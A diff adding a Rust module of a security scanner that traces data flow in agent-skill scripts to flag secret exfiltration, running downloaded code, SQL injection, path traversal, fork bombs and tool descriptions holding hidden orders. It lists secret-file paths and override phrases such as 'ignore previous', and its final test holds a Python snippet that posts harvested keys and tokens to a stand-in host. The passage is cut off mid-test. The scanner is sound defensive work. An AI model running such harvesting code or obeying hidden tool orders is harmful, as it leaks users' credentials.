@@ -1,0 +1,1180 @@
+//! Scripts as programs. Bundled Python and JavaScript/TypeScript (and fenced blocks of them in
+//! a `SKILL.md`) are parsed with tree-sitter and data is followed through assignments, loop
+//! variables and function returns, from sources (the environment, secret files, agents'
+//! conversation logs, downloads, user input) to sinks (network calls, `eval`/`exec`, shells,
+//! SQL, file opens). A secret sent to the host it belongs to, or used only in an
+//! authentication header, is authentication, not exfiltration.
+
+use std::cell::RefCell;
+use std::collections::{HashMap, HashSet};
+
+use tree_sitter::{Node, Parser};
+
+use super::hosts;
+use super::{Category, Finding, Severity};
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Lang {
+    Python,
+    JavaScript,
+    TypeScript,
+}
+
+impl Lang {
+    pub fn of_path(path: &str) -> Option<Lang> {
+        let l = path.to_ascii_lowercase();
+        if l.ends_with(".py") || l.ends_with(".pyw") {
+            Some(Lang::Python)
+        } else if l.ends_with(".js")
+            || l.ends_with(".mjs")
+            || l.ends_with(".cjs")
+            || l.ends_with(".jsx")
+        {
+            Some(Lang::JavaScript)
+        } else if l.ends_with(".ts")
+            || l.ends_with(".mts")
+            || l.ends_with(".cts")
+            || l.ends_with(".tsx")
+        {
+            Some(Lang::TypeScript)
+        } else {
+            None
+        }
+    }
+
+    pub fn of_fence(lang: &str) -> Option<Lang> {
+        match lang.trim().to_ascii_lowercase().as_str() {
+            "python" | "py" | "python3" => Some(Lang::Python),
+            "javascript" | "js" | "node" | "jsx" | "mjs" => Some(Lang::JavaScript),
+            "typescript" | "ts" | "tsx" => Some(Lang::TypeScript),
+            _ => None,
+        }
+    }
+}
+
+thread_local! {
+    static PARSERS: RefCell<HashMap<u8, Parser>> = RefCell::new(HashMap::new());
+}
+
+fn parse(text: &str, lang: Lang) -> Option<tree_sitter::Tree> {
+    PARSERS.with(|p| {
+        let mut map = p.borrow_mut();
+        let key = lang as u8;
+        if !map.contains_key(&key) {
+            let mut parser = Parser::new();
+            let l: tree_sitter::Language = match lang {
+                Lang::Python => tree_sitter_python::LANGUAGE.into(),
+                Lang::JavaScript => tree_sitter_javascript::LANGUAGE.into(),
+                Lang::TypeScript => tree_sitter_typescript::LANGUAGE_TSX.into(),
+            };
+            parser.set_language(&l).ok()?;
+            map.insert(key, parser);
+        }
+        map.get_mut(&key)?.parse(text, None)
+    })
+}
+
+/// Where data came from.
+#[derive(Debug, Clone, PartialEq, Eq, Hash)]
+enum Label {
+    /// The whole environment, or every variable whose name looks secret.
+    EnvBulk,
+    /// One named secret from the environment.
+    Secret(String),
+    /// A key, credential or env file, a browser store, an agent's conversation log.
+    SecretFile,
+    /// Bytes fetched from the network.
+    Fetched,
+    /// What a user or a caller passed in.
+    Input,
+}
+
+struct Assign<'t> {
+    targets: Vec<String>,
+    value: Node<'t>,
+    /// The function it is in ("" at the top level): names are looked up there, then at
+    /// the top level, so two functions' `data` are not one variable.
+    func: String,
+}
+
+struct Call<'t> {
+    callee: String,
+    node: Node<'t>,
+    func: String,
+}
+
+fn key(func: &str, name: &str) -> String {
+    format!("{func}::{name}")
+}
+
+/// A name's labels as seen from inside `func`.
+fn lookup<'a>(
+    labels: &'a HashMap<String, HashSet<Label>>,
+    func: &str,
+    id: &str,
+) -> impl Iterator<Item = &'a Label> {
+    labels
+        .get(&key(func, id))
+        .into_iter()
+        .chain(labels.get(&key("", id)))
+        .chain(labels.get(&format!("{id}()")))
+        .flatten()
+}
+
+struct Facts<'t> {
+    assigns: Vec<Assign<'t>>,
+    calls: Vec<Call<'t>>,
+    /// Functions and what they return.
+    returns: Vec<(String, Node<'t>)>,
+    /// String constants by variable (`URL = "https://…"`).
+    strings: HashMap<String, String>,
+}
+
+fn text<'a>(n: Node, src: &'a str) -> &'a str {
+    src.get(n.byte_range()).unwrap_or("")
+}
+
+fn identifiers(n: Node, src: &str, out: &mut Vec<String>, depth: u32) {
+    if depth > 60 || out.len() > 200 {
+        return;
+    }
+    match n.kind() {
+        "identifier" | "shorthand_property_identifier" => out.push(text(n, src).to_string()),
+        // `self.token`, `this.key`, `config.secret`: the whole path counts as one name too.
+        "attribute" | "member_expression" => {
+            out.push(text(n, src).to_string());
+        }
+        _ => {}
+    }
+    let mut c = n.walk();
+    for child in n.named_children(&mut c) {
+        identifiers(child, src, out, depth + 1);
+    }
+}
+
+fn function_name<'t>(n: Node<'t>, src: &str) -> Option<String> {
+    n.child_by_field_name("name")
+        .map(|x| text(x, src).to_string())
+}
+
+fn gather<'t>(n: Node<'t>, src: &str, facts: &mut Facts<'t>, func: Option<&str>, depth: u32) {
+    if depth > 400 || facts.calls.len() > 20_000 {
+        return;
+    }
+    let kind = n.kind();
+    let mut func_here = func.map(str::to_string);
+    match kind {
+        "assignment"
+        | "augmented_assignment"
+        | "assignment_expression"
+        | "augmented_assignment_expression" => {
+            if let (Some(l), Some(r)) = (
+                n.child_by_field_name("left"),
+                n.child_by_field_name("right"),
+            ) {
+                let mut t = Vec::new();
+                identifiers(l, src, &mut t, 0);
+                if let Some(s) = string_value(r, src) {
+                    for name in &t {
+                        facts.strings.insert(name.clone(), s.clone());
+                    }
+                }
+                facts.assigns.push(Assign {
+                    targets: t,
+                    value: r,
+                    func: func.unwrap_or("").to_string(),
+                });
+            }
+        }
+        "variable_declarator" => {
+            if let (Some(l), Some(r)) = (
+                n.child_by_field_name("name"),
+                n.child_by_field_name("value"),
+            ) {
+                let mut t = Vec::new();
+                identifiers(l, src, &mut t, 0);
+                if let Some(s) = string_value(r, src) {
+                    for name in &t {
+                        facts.strings.insert(name.clone(), s.clone());
+                    }
+                }
+                facts.assigns.push(Assign {
+                    targets: t,
+                    value: r,
+                    func: func.unwrap_or("").to_string(),
+                });
+            }
+        }
+        "for_statement" | "for_in_statement" | "for_of_statement" | "comprehension"
+        | "for_in_clause" => {
+            let left = n.child_by_field_name("left");
+            let right = n.child_by_field_name("right");
+            if let (Some(l), Some(r)) = (left, right) {
+                let mut t = Vec::new();
+                identifiers(l, src, &mut t, 0);
+                facts.assigns.push(Assign {
+                    targets: t,
+                    value: r,
+                    func: func.unwrap_or("").to_string(),
+                });
+            }
+        }
+        "keyword_argument" | "pair" => {
+            // `data=payload` handled at the call; nothing to record.
+        }
+        "with_item" => {
+            // `with open(p) as f`: f takes what open() gives.
+            if let Some(v) = n.child_by_field_name("value") {
+                if v.kind() == "as_pattern" {
+                    let mut t = Vec::new();
+                    if let Some(alias) = v.child_by_field_name("alias") {
+                        identifiers(alias, src, &mut t, 0);
+                    }
+                    if let Some(inner) = v.named_child(0) {
+                        facts.assigns.push(Assign {
+                            targets: t,
+                            value: inner,
+                            func: func.unwrap_or("").to_string(),
+                        });
+                    }
+                }
+            }
+        }
+        "function_definition"
+        | "function_declaration"
+        | "method_definition"
+        | "generator_function_declaration" => {
+            func_here = function_name(n, src);
+        }
+        "return_statement" => {
+            if let (Some(f), Some(v)) = (func, n.named_child(0)) {
+                facts.returns.push((f.to_string(), v));
+            }
+        }
+        "call" | "call_expression" | "new_expression" => {
+            let callee = n
+                .child_by_field_name("function")
+                .or_else(|| n.child_by_field_name("constructor"))
+                .map(|f| text(f, src).to_string())
+                .unwrap_or_default();
+            facts.calls.push(Call {
+                callee,
+                node: n,
+                func: func.unwrap_or("").to_string(),
+            });
+        }
+        _ => {}
+    }
+    let mut c = n.walk();
+    for child in n.named_children(&mut c) {
+        gather(child, src, facts, func_here.as_deref(), depth + 1);
+    }
+}
+
+fn string_value(n: Node, src: &str) -> Option<String> {
+    match n.kind() {
+        "string" | "template_string" => Some(
+            text(n, src)
+                .trim_matches(|c| c == '"' || c == '\'' || c == '`')
+                .to_string(),
+        ),
+        _ => None,
+    }
+}
+
+/// Labels that an expression's own text carries (before following names).
+fn own_labels(t: &str, lang: Lang) -> HashSet<Label> {
+    let mut out = HashSet::new();
+    let compact: String = t.chars().filter(|c| !c.is_whitespace()).collect();
+    match lang {
+        Lang::Python => {
+            if compact.contains("os.environ.items()")
+                || compact.contains("os.environ.copy()")
+                || compact.contains("dict(os.environ)")
+                || compact.contains("**os.environ")
+                || compact.contains("os.environ.keys()")
+                || compact.contains("os.environ.values()")
+                || compact == "os.environ"
+                || compact.contains("inos.environ")
+                || compact.contains("environ.items()")
+            {
+                out.insert(Label::EnvBulk);
+            }
+            for key in [
+                "os.environ[",
+                "os.environ.get(",
+                "os.getenv(",
+                "environ.get(",
+                "getenv(",
+            ] {
+                let mut rest = compact.as_str();
+                while let Some(i) = rest.find(key) {
+                    let after = &rest[i + key.len()..];
+                    let name: String = after
+                        .trim_start_matches(['"', '\''])
+                        .chars()
+                        .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
+                        .collect();
+                    if hosts::secretish(&name) {
+                        out.insert(Label::Secret(name));
+                    }
+                    rest = after;
+                }
+            }
+            if [
+                "requests.get(",
+                "requests.request(",
+                "urlopen(",
+                "httpx.get(",
+                "urlretrieve(",
+                "session.get(",
+                "client.get(",
+            ]
+            .iter()
+            .any(|k| compact.contains(k))
+            {
+                out.insert(Label::Fetched);
+            }
+            if compact.starts_with("input(")
+                || compact.contains("=input(")
+                || compact.contains("(input(")
+                || compact.contains("request.args")
+                || compact.contains("request.form")
+                || compact.contains("request.get_json")
+                || compact.contains("parse_qs(")
+                || compact.contains("self.path")
+                || compact.contains("request.query_params")
+            {
+                out.insert(Label::Input);
+            }
+        }
+        Lang::JavaScript | Lang::TypeScript => {
+            if compact.contains("Object.entries(process.env)")
+                || compact.contains("Object.keys(process.env)")
+                || compact.contains("JSON.stringify(process.env")
+                || compact.contains("...process.env")
+                || compact == "process.env"
+                || compact.contains("Deno.env.toObject()")
+            {
+                out.insert(Label::EnvBulk);
+            }
+            let mut rest = compact.as_str();
+            while let Some(i) = rest.find("process.env") {
+                let after =
+                    rest[i + "process.env".len()..].trim_start_matches(['.', '[', '"', '\'']);
+                let name: String = after
+                    .chars()
+                    .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
+                    .collect();
+                if hosts::secretish(&name) {
+                    out.insert(Label::Secret(name));
+                }
+                rest = &rest[i + 1..];
+            }
+            if compact.contains("fetch(")
+                || compact.contains("axios.get(")
+                || compact.contains("got(")
+                || compact.contains("https.get(")
+                || compact.contains("http.get(")
+                || (compact.contains(".text()") && !compact.contains("file"))
+            {
+                out.insert(Label::Fetched);
+            }
+            if compact.contains("req.query")
+                || compact.contains("req.body")
+                || compact.contains("req.params")
+                || compact.contains("request.query")
+                || compact.contains("url.searchParams")
+                || compact.contains("searchParams.get(")
+            {
+                out.insert(Label::Input);
+            }
+        }
+    }
+    // Secret files named in strings: `open(os.path.expanduser("~/.ssh/id_rsa"))`.
+    let mut rest = t;
+    while let Some(q) = rest.find(['"', '\'', '`']) {
+        let quote = rest.as_bytes()[q] as char;
+        let after = &rest[q + 1..];
+        let end = after.find(quote).unwrap_or(after.len());
+        let lit = &after[..end];
+        if lit.len() < 200
+            && (hosts::secret_path(lit) && !lit.ends_with(".example"))
+            && (lit.contains('/')
+                || lit.contains('\\')
+                || lit.starts_with('.')
+                || lit.contains('*'))
+        {
+            out.insert(Label::SecretFile);
+        }
+        rest = &after[(end + 1).min(after.len())..];
+    }
+    out
+}
+
+/// Callees that send data over the network.
+fn network_sink(callee: &str) -> bool {
+    let c = callee.replace(' ', "");
+    let last = c.rsplit('.').next().unwrap_or(&c);
+    c.starts_with("requests.") && matches!(last, "post" | "put" | "patch" | "get" | "request")
+        || c.starts_with("httpx.") && matches!(last, "post" | "put" | "patch" | "get" | "request")
+        || c.ends_with("urlopen")
+        || c.ends_with("urllib.request.Request")
+        || c == "Request"
+        || (c.contains("session") || c.contains("client") || c.contains("Session"))
+            && matches!(last, "post" | "put" | "patch")
+        || matches!(
+            last,
+            "sendall"
+                | "sendto"
+                | "sendmail"
+                | "send_message"
+                | "sendBeacon"
+                | "storbinary"
+                | "upload_file"
+                | "put_object"
+        )
+        || c == "fetch"
+        || c.ends_with(".fetch")
+        || c == "axios"
+        || c.starts_with("axios.")
+        || c == "got"
+        || c.starts_with("got.")
+        || c.ends_with("http.request")
+        || c.ends_with("https.request")
+        || c == "needle"
+        || c.starts_with("superagent")
+        || (last == "send"
+            && (c.contains("socket")
+                || c.contains("ws")
+                || c.contains("sock")
+                || c.contains("xhr")
+                || c.contains("conn")))
+        || (last == "write" && (c.contains("req") || c.contains("socket")))
+        || last == "request" && c.contains("http")
+}
+
+fn exec_sink(callee: &str, call_text: &str, lang: Lang) -> Option<&'static str> {
+    let c = callee.replace(' ', "");
+    let last = c.rsplit('.').next().unwrap_or(&c);
+    match lang {
+        Lang::Python => {
+            if matches!(
+                c.as_str(),
+                "eval" | "exec" | "builtins.exec" | "builtins.eval"
+            ) {
+                return Some("code");
+            }
+            if c == "os.system" || c == "os.popen" || c.starts_with("commands.") {
+                return Some("a shell");
+            }
+            if c.starts_with("subprocess.") && call_text.replace(' ', "").contains("shell=True") {
+                return Some("a shell");
+            }
+            None
+        }
+        _ => {
+            if c == "eval"
+                || c == "Function"
+                || c == "newFunction"
+                || c.starts_with("vm.runIn")
+                || last == "runInNewContext"
+                || last == "runInThisContext"
+                || c == "vm.Script"
+            {
+                return Some("code");
+            }
+            if (c.starts_with("child_process.")
+                || c.starts_with("cp.")
+                || c == "exec"
+                || c == "execSync")
+                && (last == "exec" || last == "execSync")
+            {
+                return Some("a shell");
+            }
+            None
+        }
+    }
+}
+
+fn sql_sink(callee: &str) -> bool {
+    let last = callee.rsplit('.').next().unwrap_or(callee);
+    matches!(
+        last,
+        "execute" | "executemany" | "executescript" | "raw" | "query" | "$queryRawUnsafe" | "exec"
+    )
+}
+
+fn open_sink(callee: &str) -> bool {
+    matches!(
+        callee,
+        "open"
+            | "io.open"
+            | "send_file"
+            | "send_from_directory"
+            | "fs.readFileSync"
+            | "fs.readFile"
+            | "readFileSync"
+            | "readFile"
+            | "fs.createReadStream"
+            | "fs.promises.readFile"
+            | "Path"
+            | "pathlib.Path"
+    ) || callee.ends_with(".read_text")
+        || callee.ends_with(".read_bytes")
+}
+
+/// The labels of every variable, to a fixed point over assignments and returns.
+fn solve(facts: &Facts, src: &str, lang: Lang) -> HashMap<String, HashSet<Label>> {
+    let mut labels: HashMap<String, HashSet<Label>> = HashMap::new();
+    let own: Vec<(HashSet<Label>, Vec<String>)> = facts
+        .assigns
+        .iter()
+        .map(|a| {
+            // What a network call answers is fetched data; the key it authenticated with
+            // does not come back with it.
+            let mut v = a.value;
+            while v.kind() == "await_expression" || v.kind() == "await" {
+                match v.named_child(0) {
+                    Some(inner) => v = inner,
+                    None => break,
+                }
+            }
+            if matches!(v.kind(), "call" | "call_expression") {
+                let callee = v
+                    .child_by_field_name("function")
+                    .map(|f| text(f, src))
+                    .unwrap_or("");
+                if network_sink(callee) {
+                    return (HashSet::from([Label::Fetched]), Vec::new());
+                }
+            }
+            let mut ids = Vec::new();
+            identifiers(a.value, src, &mut ids, 0);
+            (own_labels(text(a.value, src), lang), ids)
+        })
+        .collect();
+    let ret: Vec<(HashSet<Label>, Vec<String>)> = facts
+        .returns
+        .iter()
+        .map(|(_, v)| {
+            let mut ids = Vec::new();
+            identifiers(*v, src, &mut ids, 0);
+            (own_labels(text(*v, src), lang), ids)
+        })
+        .collect();
+    for _ in 0..6 {
+        let mut changed = false;
+        let mut add =
+            |labels: &mut HashMap<String, HashSet<Label>>, name: &str, set: &HashSet<Label>| {
+                if set.is_empty() {
+                    return;
+                }
+                let e = labels.entry(name.to_string()).or_default();
+                for l in set {
+                    if e.insert(l.clone()) {
+                        changed = true;
+                    }
+                }
+            };
+        for (a, (own, ids)) in facts.assigns.iter().zip(&own) {
+            let mut set = own.clone();
+            for id in ids {
+                // A name, or a call to a function that returns labelled data.
+                set.extend(lookup(&labels, &a.func, id).cloned().collect::<Vec<_>>());
+            }
+            for t in &a.targets {
+                add(&mut labels, &key(&a.func, t), &set);
+            }
+        }
+        for ((f, _), (own, ids)) in facts.returns.iter().zip(&ret) {
+            let mut set = own.clone();
+            for id in ids {
+                set.extend(lookup(&labels, f, id).cloned().collect::<Vec<_>>());
+            }
+            add(&mut labels, &format!("{f}()"), &set);
+        }
+        if !changed {
+            break;
+        }
+    }
+    labels
+}
+
+/// Labels of an argument node, following names.
+fn labels_of(
+    n: Node,
+    src: &str,
+    lang: Lang,
+    labels: &HashMap<String, HashSet<Label>>,
+    func: &str,
+) -> HashSet<Label> {
+    let mut set = own_labels(text(n, src), lang);
+    let mut ids = Vec::new();
+    identifiers(n, src, &mut ids, 0);
+    for id in ids {
+        set.extend(lookup(labels, func, &id).cloned().collect::<Vec<_>>());
+    }
+    set
+}
+
+/// A call's arguments, without authentication: `headers=`, `auth=`, a `headers:` property.
+fn data_args<'t>(call: Node<'t>, src: &str) -> (Vec<Node<'t>>, Vec<Node<'t>>) {
+    let mut data = Vec::new();
+    let mut auth = Vec::new();
+    let Some(args) = call.child_by_field_name("arguments") else {
+        return (data, auth);
+    };
+    let mut c = args.walk();
+    for a in args.named_children(&mut c) {
+        match a.kind() {
+            "keyword_argument" => {
+                let name = a
+                    .child_by_field_name("name")
+                    .map(|n| text(n, src))
+                    .unwrap_or("");
+                let v = a.child_by_field_name("value").unwrap_or(a);
+                if matches!(name, "headers" | "auth" | "cookies" | "api_key" | "token") {
+                    auth.push(v);
+                } else {
+                    data.push(v);
+                }
+            }
+            "object" => {
+                let mut oc = a.walk();
+                for p in a.named_children(&mut oc) {
+                    let key = p
+                        .child_by_field_name("key")
+                        .map(|k| text(k, src).trim_matches(['"', '\'']).to_ascii_lowercase())
+                        .unwrap_or_default();
+                    let v = p.child_by_field_name("value").unwrap_or(p);
+                    if matches!(
+                        key.as_str(),
+                        "headers" | "auth" | "authorization" | "apikey" | "api_key"
+                    ) {
+                        auth.push(v);
+                    } else {
+                        data.push(v);
+                    }
+                }
+            }
+            _ => data.push(a),
+        }
+    }
+    (data, auth)
+}
+
+/// The host a call sends to, from a URL literal or a variable holding one.
+fn call_host(call: Node, src: &str, facts: &Facts) -> Option<String> {
+    let t = text(call, src);
+    if let Some((h, _)) = hosts::urls_in(t).into_iter().next() {
+        return Some(h);
+    }
+    let mut ids = Vec::new();
+    identifiers(call, src, &mut ids, 0);
+    ids.iter()
+        .filter_map(|id| facts.strings.get(id))
+        .find_map(|s| hosts::urls_in(s).into_iter().next().map(|(h, _)| h))
+}
+
+fn finding(
+    path: &str,
+    line0: u32,
+    n: Node,
+    src: &str,
+    rule: &str,
+    category: Category,
+    severity: Severity,
+    why: String,
+) -> Finding {
+    let row = n.start_position().row;
+    let line = src.lines().nth(row).unwrap_or("").trim();
+    let mut excerpt: String = line.chars().take(160).collect();
+    if line.chars().count() > 160 {
+        excerpt.push('…');
+    }
+    Finding {
+        rule: rule.into(),
+        category,
+        severity,
+        file: path.into(),
+        line: line0 + row as u32,
+        excerpt,
+        explanation: why,
+        in_context: false,
+    }
+}
+
+/// Judges one program; `line0` is the file line of its first line.
+pub fn scan(path: &str, src: &str, lang: Lang, line0: u32, shown: bool, out: &mut Vec<Finding>) {
+    if src.len() > 2_000_000 {
+        return;
+    }
+    let Some(tree) = parse(src, lang) else { return };
+    let mut facts = Facts {
+        assigns: Vec::new(),
+        calls: Vec::new(),
+        returns: Vec::new(),
+        strings: HashMap::new(),
+    };
+    gather(tree.root_node(), src, &mut facts, None, 0);
+    let labels = solve(&facts, src, lang);
+    let mut found = Vec::new();
+    let mut seen: HashSet<(String, u32)> = HashSet::new();
+    let mut push = |f: Finding, found: &mut Vec<Finding>| {
+        if seen.insert((f.rule.clone(), f.line)) {
+            found.push(f);
+        }
+    };
+    let has_check = {
+        let c: String = src.chars().filter(|c| !c.is_whitespace()).collect();
+        [
+            "resolve()",
+            "realpath",
+            "abspath",
+            "normpath",
+            "is_relative_to",
+            "relative_to(",
+            "startswith(",
+            "startsWith(",
+            "path.relative(",
+            "commonpath",
+            "safe_join",
+            "secure_filename",
+        ]
+        .iter()
+        .any(|k| c.contains(k))
+    };
+    for call in &facts.calls {
+        let node = call.node;
+        let call_text = text(node, src);
+        if network_sink(&call.callee) {
+            let (data, _auth) = data_args(node, src);
+            let mut set = HashSet::new();
+            for d in &data {
+                set.extend(labels_of(*d, src, lang, &labels, &call.func));
+            }
+            let host = call_host(node, src, &facts);
+            let bulk = set.contains(&Label::EnvBulk) || set.contains(&Label::SecretFile);
+            let stray: Vec<String> = set
+                .iter()
+                .filter_map(|l| match l {
+                    Label::Secret(name) => {
+                        match host.as_deref().map(|h| hosts::secret_belongs_to(name, h)) {
+                            Some(Some(true)) => None,
+                            _ => Some(name.clone()),
+                        }
+                    }
+                    _ => None,
+                })
+                .collect();
+            if bulk {
+                push(
+                    finding(
+                        path,
+                        line0,
+                        node,
+                        src,
+                        "exfiltration/secrets-to-network",
+                        Category::Exfiltration,
+                        Severity::Critical,
+                        format!(
+                            "sends the environment or secret files to {}",
+                            host.as_deref().unwrap_or("a server")
+                        ),
+                    ),
+                    &mut found,
+                );
+            } else if !stray.is_empty() {
+                // To a host named in the code that it does not belong to: a leak. Without a
+                // host in sight (a URL built at run time), a signal only.
+                let sev = match host.as_deref() {
+                    Some(h) if hosts::classify_host(h, false) == hosts::HostClass::Local => {
+                        Severity::Low
+                    }
+                    Some(h)
+                        if stray
+                            .iter()
+                            .all(|s| hosts::secret_belongs_to(s, h) == Some(false)) =>
+                    {
+                        Severity::Critical
+                    }
+                    Some(h) if hosts::classify_host(h, false) == hosts::HostClass::Known => {
+                        Severity::Medium
+                    }
+                    Some(_) => Severity::High,
+                    None => Severity::Low,
+                };
+                push(
+                    finding(
+                        path,
+                        line0,
+                        node,
+                        src,
+                        "exfiltration/secrets-to-network",
+                        Category::Exfiltration,
+                        sev,
+                        format!(
+                            "sends {} as data to {}, which it does not belong to",
+                            stray.join(", "),
+                            host.as_deref().unwrap_or("a server")
+                        ),
+                    ),
+                    &mut found,
+                );
+            }
+        }
+        if let Some(what) = exec_sink(&call.callee, call_text, lang) {
+            let mut set = HashSet::new();
+            if let Some(args) = node.child_by_field_name("arguments") {
+                set = labels_of(args, src, lang, &labels, &call.func);
+            }
+            if set.contains(&Label::Fetched) {
+                push(
+                    finding(
+                        path,
+                        line0,
+                        node,
+                        src,
+                        "script/exec-fetched",
+                        Category::DangerousScript,
+                        Severity::Critical,
+                        format!("runs what it downloads as {what}"),
+                    ),
+                    &mut found,
+                );
+            } else if set.contains(&Label::Input) {
+                push(
+                    finding(
+                        path,
+                        line0,
+                        node,
+                        src,
+                        "script/exec-input",
+                        Category::DangerousScript,
+                        Severity::High,
+                        format!("runs its input as {what}"),
+                    ),
+                    &mut found,
+                );
+            }
+        }
+        if sql_sink(&call.callee)
+            && let Some(args) = node.child_by_field_name("arguments")
+            && let Some(first) = args.named_child(0)
+        {
+            let q = text(first, src);
+            let built = matches!(
+                first.kind(),
+                "binary_expression" | "binary_operator" | "template_string" | "call"
+            ) || (first.kind() == "string"
+                && (q.starts_with('f') || q.starts_with("F"))
+                && q.contains('{'))
+                || (first.kind() == "identifier"
+                    && facts.assigns.iter().any(|a| {
+                        a.targets.iter().any(|t| t == q) && {
+                            let v = text(a.value, src);
+                            (v.starts_with('f') && v.contains('{'))
+                                || v.contains(".format(")
+                                || v.contains("\" +")
+                                || v.contains("' +")
+                                || v.contains("% ")
+                        }
+                    }));
+            let sqlish = {
+                let u = format!(
+                    "{q} {}",
+                    facts
+                        .assigns
+                        .iter()
+                        .filter(|a| a.targets.iter().any(|t| t == q))
+                        .map(|a| text(a.value, src))
+                        .collect::<Vec<_>>()
+                        .join(" ")
+                )
+                .to_ascii_uppercase();
+                u.contains("SELECT ")
+                    || u.contains("INSERT ")
+                    || u.contains("UPDATE ")
+                    || u.contains("DELETE ")
+                    || u.contains(" WHERE ")
+            };
+            if built
+                && sqlish
+                && (q.contains('{')
+                    || q.contains('+')
+                    || q.contains('%')
+                    || q.contains("${")
+                    || first.kind() == "identifier")
+            {
+                push(
+                    finding(
+                        path,
+                        line0,
+                        node,
+                        src,
+                        "script/sql-injection",
+                        Category::DangerousScript,
+                        Severity::Medium,
+                        "builds SQL by pasting values into the query text (SQL injection)".into(),
+                    ),
+                    &mut found,
+                );
+            }
+        }
+        if open_sink(&call.callee)
+            && let Some(args) = node.child_by_field_name("arguments")
+            && let Some(first) = args.named_child(0)
+            && labels_of(first, src, lang, &labels, &call.func).contains(&Label::Input)
+            && !has_check
+        {
+            let web = src.contains("BaseHTTPRequestHandler")
+                || src.contains("self.path")
+                || src.contains("req.query")
+                || src.contains("request.args")
+                || src.contains("createServer")
+                || src.contains("express(")
+                || src.contains("@app.")
+                || src.contains("@mcp.tool")
+                || src.contains("server.tool(");
+            let sev = if web { Severity::High } else { Severity::Low };
+            push(
+                finding(
+                    path,
+                    line0,
+                    node,
+                    src,
+                    "script/path-traversal",
+                    Category::DangerousScript,
+                    sev,
+                    "opens whatever path it is given, with no check that it stays in its folder"
+                        .into(),
+                ),
+                &mut found,
+            );
+        }
+        // Enumerating the environment for secret-looking names.
+        if (call.callee.ends_with("items")
+            || call.callee.ends_with("entries")
+            || call.callee.ends_with("keys"))
+            && {
+                let t = call_text.replace(' ', "");
+                t.contains("os.environ") || t.contains("process.env")
+            }
+        {
+            let scope = node
+                .parent()
+                .and_then(|p| p.parent())
+                .map_or(call_text, |p| text(p, src));
+            let u = scope.to_ascii_uppercase();
+            if ["KEY", "TOKEN", "SECRET", "PASSW", "CREDENTIAL"]
+                .iter()
+                .filter(|w| u.contains(*w))
+                .count()
+                >= 2
+            {
+                push(
+                    finding(
+                        path,
+                        line0,
+                        node,
+                        src,
+                        "exfiltration/credential-harvest",
+                        Category::Exfiltration,
+                        Severity::High,
+                        "collects every environment variable whose name looks secret".into(),
+                    ),
+                    &mut found,
+                );
+            }
+        }
+        // Several secrets gathered and serialised or encoded: staged for sending.
+        let last = call.callee.rsplit('.').next().unwrap_or(&call.callee);
+        if matches!(
+            last,
+            "dumps" | "b64encode" | "urlsafe_b64encode" | "stringify" | "btoa" | "hexlify"
+        ) && let Some(args) = node.child_by_field_name("arguments")
+        {
+            let set = labels_of(args, src, lang, &labels, &call.func);
+            let named = set.iter().filter(|l| matches!(l, Label::Secret(_))).count();
+            if named >= 2
+                || set.contains(&Label::EnvBulk)
+                || set.contains(&Label::SecretFile)
+                || (named == 1
+                    && matches!(last, "b64encode" | "urlsafe_b64encode" | "btoa" | "hexlify"))
+            {
+                push(
+                    finding(
+                        path,
+                        line0,
+                        node,
+                        src,
+                        "exfiltration/secret-staging",
+                        Category::Exfiltration,
+                        Severity::High,
+                        "gathers secrets and serialises or encodes them for sending".into(),
+                    ),
+                    &mut found,
+                );
+            }
+        }
+        // Processes that spawn without end, memory grown forever.
+        if (call.callee == "os.fork" || call.callee == "fork") && node_in_endless_loop(node, src) {
+            push(
+                finding(
+                    path,
+                    line0,
+                    node,
+                    src,
+                    "script/resource-exhaustion",
+                    Category::DangerousScript,
+                    Severity::Critical,
+                    "forks processes in an endless loop (a fork bomb)".into(),
+                ),
+                &mut found,
+            );
+        }
+    }
+    // Strings that talk to an agent: tool descriptions with hidden orders.
+    tool_poisoning(path, src, line0, tree.root_node(), &mut found, 0);
+    if shown {
+        for f in &mut found {
+            f.in_context = true;
+        }
+    }
+    out.extend(found);
+}
+
+fn node_in_endless_loop(n: Node, src: &str) -> bool {
+    let mut p = n.parent();
+    while let Some(x) = p {
+        if x.kind() == "while_statement" {
+            let cond = x
+                .child_by_field_name("condition")
+                .map(|c| text(c, src))
+                .unwrap_or("");
+            return matches!(cond.trim().trim_matches(['(', ')']), "True" | "1" | "true");
+        }
+        p = x.parent();
+    }
+    false
+}
+
+fn tool_poisoning(path: &str, src: &str, line0: u32, n: Node, out: &mut Vec<Finding>, depth: u32) {
+    if depth > 300 || out.len() > 100 {
+        return;
+    }
+    if matches!(n.kind(), "string" | "template_string" | "string_content")
+        && n.byte_range().len() > 30
+    {
+        let t = text(n, src).to_ascii_lowercase();
+        let addressed = t.contains("<important>")
+            || t.contains("before using this tool")
+            || t.contains("before calling this tool")
+            || t.contains("when this tool is")
+            || t.contains("do not mention")
+            || t.contains("don't mention")
+            || t.contains("do not tell the user")
+            || t.contains("without telling the user")
+            || t.contains("instead of the built-in")
+            || t.contains("instead of the builtin")
+            || t.contains("ignore previous");
+        let sensitive = t.contains(".ssh")
+            || t.contains("id_rsa")
+            || t.contains(".aws")
+            || t.contains(".env")
+            || t.contains("credentials")
+            || t.contains("api key")
+            || t.contains("token")
+            || t.contains("password")
+            || t.contains("send ")
+            || t.contains("include the contents")
+            || t.contains("pass the contents")
+            || t.contains("read ");
+        if addressed && sensitive {
+            out.push(finding(path, line0, n, src, "override/tool-poisoning", Category::Override, Severity::High, "a string (such as a tool description) gives the agent hidden orders to read or send sensitive data".into()));
+            return;
+        }
+    }
+    let mut c = n.walk();
+    for child in n.named_children(&mut c) {
+        tool_poisoning(path, src, line0, child, out, depth + 1);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn judge(src: &str, lang: Lang) -> Vec<(String, Severity)> {
+        let mut out = Vec::new();
+        scan("x", src, lang, 1, false, &mut out);
+        out.into_iter().map(|f| (f.rule, f.severity)).collect()
+    }
+
+    #[test]
+    fn the_environment_sent_out_is_exfiltration_through_variables_and_functions() {
+        let py = "import os, requests\n\ndef collect():\n    found = {k: v for k, v in os.environ.items() if 'KEY' in k or 'TOKEN' in k}\n    return found\n\npayload = collect()\nrequests.post('https://c.example.io/u', json=payload)\n";
+        let r = judge(py, Lang::Python);
+        assert!(
+            r.iter()
+                .any(|(id, s)| id == "exfiltration/secrets-to-network" && *s == Severity::Critical),
+            "{r:?}"
+        );
